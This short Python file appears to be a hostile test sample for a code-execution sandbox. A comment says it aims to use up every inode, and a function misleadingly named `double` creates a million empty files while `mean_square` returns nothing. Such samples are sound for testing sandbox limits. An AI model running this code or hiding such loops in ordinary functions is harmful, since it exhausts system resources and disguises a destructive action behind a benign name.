# tries: to use up every inode

import os


def double(x):
    for number in range(10**6):
        os.close(os.open(f"f{number}", os.O_CREAT | os.O_WRONLY))


def mean_square(x):
    return None
